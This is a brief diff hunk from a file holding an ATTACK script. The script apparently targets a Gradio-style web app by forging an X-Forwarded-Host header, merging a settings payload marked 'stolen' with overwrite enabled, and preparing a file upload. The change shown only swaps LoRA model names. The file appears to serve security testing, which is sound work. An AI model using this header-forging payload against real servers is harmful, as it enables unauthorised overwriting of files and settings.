@@ -21,7 +21,7 @@ ATTACK = """async ([url, ping]) => {
     const forged = {"X-Forwarded-Host": location.host};
     const json = {...forged, "Content-Type": "application/json"};
     const merge = JSON.stringify({output: "stolen", overwrite: true, settings: {steps: 1},
-        subject: {lora: "minixl_subject_turtle"}, style: {lora: "minixl_style_fluent-emoji"}});
+        subject: {lora: "minixl_subject_rocket"}, style: {lora: "minixl_style_streamline-cyber-color"}});
     const call = JSON.stringify({fn_index: 1, data: [], session_hash: "x"});
     const files = new FormData();
     files.append("files", new Blob(["x"]), "x.txt");
